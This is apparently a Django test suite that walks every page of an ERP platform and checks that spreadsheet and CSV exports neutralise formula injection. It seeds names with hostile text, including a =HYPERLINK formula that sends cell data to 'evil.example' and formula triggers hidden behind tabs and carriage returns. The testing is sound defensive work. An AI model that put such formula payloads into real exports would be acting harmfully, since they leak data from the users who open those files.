"""No export carries a formula (issue 11 §3): every spreadsheet the platform produces, found by walking
the pages, writes each text cell that starts with = + - @ tab or CR as text (core.exports).

The walk is not a list of exports: every URL pattern of both URL confs is filled with real ids
(tests.walker), each page is fetched as the user who sees most of it (the owner of enterprise A on its
host; the office and A's owner on the public host), and every link on those pages that asks for a file
(`?export=`, `format=`/`fmt=`, a path ending in .xlsx/.csv or with an /xlsx/ segment) is followed, as is
any page that answers with a spreadsheet itself. A new list export, report or template is walked
without editing this test. Django's admin (no exports) is left out.

The data is the demo world with hostile text everywhere people type it: enterprise A renamed
`=HYPERLINK("http://…",…)` (the case reported), item, partner, warehouse, listing, programme, token and
user names starting with each trigger character, and an import job whose problem list holds them.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from urllib.parse import parse_qs, urlsplit

from django.db import connection
from django.test import Client
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, csv_writer, xlsx_append, xlsx_bytes
from tests.walker import PUBLIC_HOST, Unfillable, build_world, fill_all, iter_patterns, page_links

ENTERPRISE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
# one text per trigger character; the tab and CR ones hide a formula behind the white space
TRIGGER_TEXTS = {"=": "=1+1 ", "+": "+86 ", "-": "-2+3 ", "@": "@SUM(A1) ", "\t": "\t=1+1 ", "\r": "\r=1+1 "}
SPREADSHEET = ("application/vnd.openxmlformats-officedocument.spreadsheetml", "application/vnd.ms-excel")
FILE_LINK = re.compile(r"([?&](export|format|fmt)=)|(\.(xlsx|xlsm|csv)(\?|$))|(/(xlsx|csv)/)", re.I)
SKIP_ROUTE = re.compile(r"^(admin/|graphql/|healthz)|logout|handoff")


def _hostile(text: str, n: int) -> str:
    trigger = list(TRIGGER_TEXTS)[n % len(TRIGGER_TEXTS)]
    return TRIGGER_TEXTS[trigger] + text


def _make_everything_hostile(world) -> None:
    from api.tokens.models import ApiToken
    from ecommerce.models import Listing
    from erp_modules.catalog.models import Item
    from erp_modules.common.models import ImportJob
    from erp_modules.inventory.models import Warehouse
    from erp_modules.partners.models import Partner
    from office.models import Programme
    from office.services import monthly_report_run
    from tenants.models import Enterprise, User

    side = world.a
    Enterprise.objects.filter(pk=side.enterprise.pk).update(name=ENTERPRISE, short_name=ENTERPRISE)
    User.objects.filter(pk=side.owner.pk).update(full_name="@业主 A")
    for n, listing in enumerate(Listing.objects.filter(enterprise=side.enterprise).order_by("pk")):
        Listing.objects.filter(pk=listing.pk).update(title=_hostile(listing.title, n))
    for n, token in enumerate(ApiToken.objects.filter(enterprise=side.enterprise).order_by("pk")):
        ApiToken.objects.filter(pk=token.pk).update(name=_hostile(token.name, n))
    Programme.objects.filter(code=side.ids["programme_code"]).update(name="=巡检试点")
    with tenant_context(side.enterprise):
        for model in (Item, Partner, Warehouse):
            for n, obj in enumerate(model.objects.order_by("pk")):
                model.objects.filter(pk=obj.pk).update(name=_hostile(obj.name, n))
        ImportJob.objects.filter(pk=side.ids["import_job"]).update(
            status=ImportJob.Status.FAILED, error_count=len(TRIGGER_TEXTS),
            errors=[{"row": n + 2, "column": trigger, "message": text + "不是数字"}
                    for n, (trigger, text) in enumerate(TRIGGER_TEXTS.items())])
    connection.set_schema_to_public()
    monthly_report_run(report_id=side.ids["monthly_report"])  # a real workbook, with the programme's name


def _is_file(response) -> bool:
    kind = response.get("Content-Type", "")
    return response.status_code == 200 and (kind.startswith(SPREADSHEET) or kind.startswith("text/csv"))


def _walk(client: Client, user, host: str, urlconf: str, ids, files: dict, unfillable: list) -> int:
    """GET every page of `urlconf` as `user`; keep every file a page is or links to. Returns pages fetched."""
    client.force_login(user)
    links: set[str] = set()
    pages = 0
    for pattern in iter_patterns(urlconf):
        if SKIP_ROUTE.search(pattern.route):
            continue
        try:
            paths = fill_all(pattern, ids)
        except Unfillable as exc:
            unfillable.append(str(exc)[:200])
            continue
        for path in paths:
            response = client.get(path, HTTP_HOST=host)
            pages += 1
            if _is_file(response):
                files[(host, path)] = response
            elif response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
                links.update(link for link in page_links(response.content.decode(), path) if FILE_LINK.search(link))
    for link in sorted(links):
        if (host, link) not in files:
            files[(host, link)] = client.get(link, HTTP_HOST=host)
    return pages


def _cells_of(key, response) -> list[str]:
    """Every text cell of the file, after checking that none is (or would be read as) a formula."""
    texts = []
    if response.get("Content-Type", "").startswith("text/csv"):
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            for value in row:
                assert not value.startswith(FORMULA_STARTS), f"{key}: CSV cell {value!r} would run"
                texts.append(value)
        return texts
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{key}: {name} holds a formula element"
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{key}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, f"{key}: {cell.coordinate} not text"
                    texts.append(cell.value)
    return texts


def test_every_export_writes_formula_like_text_as_text(make_enterprise, make_user):
    # given: the demo world with hostile names
    world = build_world(make_enterprise, make_user, full=("a",), slug_prefix="xlsx")
    _make_everything_hostile(world)
    side = world.a
    client = Client(raise_request_exception=False)
    files: dict = {}
    unfillable: list = []

    # when: every page is walked and every file it offers is downloaded
    pages = _walk(client, side.owner, side.host, "config.urls_tenants", side.ids, files, unfillable)
    pages += _walk(client, world.office, PUBLIC_HOST, "config.urls_public", side.ids, files, unfillable)
    pages += _walk(client, side.owner, PUBLIC_HOST, "config.urls_public", side.ids, files, unfillable)

    # then: every file downloads, and no cell of any of them is a formula
    failed = {key: response.status_code for key, response in files.items() if not _is_file(response)}
    assert failed == {}, f"file links that did not give a file: {failed}"
    texts_by_file = {key: _cells_of(key, response) for key, response in files.items()}
    print(f"\n{pages} pages walked, {len(files)} files checked; unfillable patterns: {len(unfillable)}")
    for key in sorted(texts_by_file):
        print("  ", key[0], key[1])

    # and the hostile texts were really in them (the walk reached the exports that show them), as text
    def files_with(predicate) -> set:
        return {key for key, texts in texts_by_file.items() if any(predicate(t) for t in texts)}

    assert len(files) >= 25
    kinds = {key[1].split("?")[0] for key in files}
    assert any("/office/reports/" in k and k.endswith("/xlsx/") for k in kinds), kinds  # the monthly report
    assert any(k.startswith("/erp/imports/template/") for k in kinds), kinds  # the import templates
    named = files_with(lambda t: t == ENTERPRISE)
    assert {host for host, _path in named} == {PUBLIC_HOST}  # the office's and the boards' exports
    assert len(named) >= 2, named
    assert files_with(lambda t: t == "=巡检试点"), "the programme's name in no export"
    problems = [key for key in files if parse_qs(urlsplit(key[1]).query).get("export") and
                key[1].startswith(f"/erp/imports/{side.ids['import_job']}/")]
    assert problems and files_with(lambda t: t == "=1+1 不是数字") & set(problems)  # the import problem report
    for trigger, text in TRIGGER_TEXTS.items():
        stored = text.replace("\r", "\n")  # XML keeps no bare CR: the cell reads back with a line feed
        assert files_with(lambda t, s=stored: t.startswith(s)), f"no export shows a text starting {trigger!r}"


# ---- the mechanism itself -----------------------------------------------------------------------


def _read_back(data: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [(c.value, c.data_type, bool(c.quotePrefix)) for row in sheet.iter_rows() for c in row]


def test_xlsx_text_that_looks_like_a_formula_is_a_string_cell_with_the_same_text():
    from openpyxl import Workbook

    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("x") if write_only else book.active
        xlsx_append(sheet, [ENTERPRISE, "+86 574", "-2+3", "@SUM(A1)", "\t=1", "慈溪", -5, 2.5, None])

        cells = _read_back(xlsx_bytes(book))

        assert cells[:8] == [(ENTERPRISE, "s", True), ("+86 574", "s", True), ("-2+3", "s", True),
                             ("@SUM(A1)", "s", True), ("\t=1", "s", True), ("慈溪", "s", False),
                             (-5, "n", False), (2.5, "n", False)]  # numbers stay numbers, negative ones too


def test_xlsx_bytes_turns_a_formula_written_past_the_helpers_into_text():
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "=1+1"
    book.active.cell(row=2, column=1, value=ENTERPRISE)

    assert _read_back(xlsx_bytes(book)) == [("=1+1", "s", True), (ENTERPRISE, "s", True)]


def test_csv_cells_that_would_run_get_an_apostrophe():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow([ENTERPRISE, "+86", "-2", "@A1", "\tx", "\rx", "慈溪", -5])
    writer.writerows([["=x"]])

    rows = list(csv.reader(io.StringIO(buffer.getvalue())))

    assert rows == [["'" + ENTERPRISE, "'+86", "'-2", "'@A1", "'\tx", "'\rx", "慈溪", "-5"], ["'=x"]]
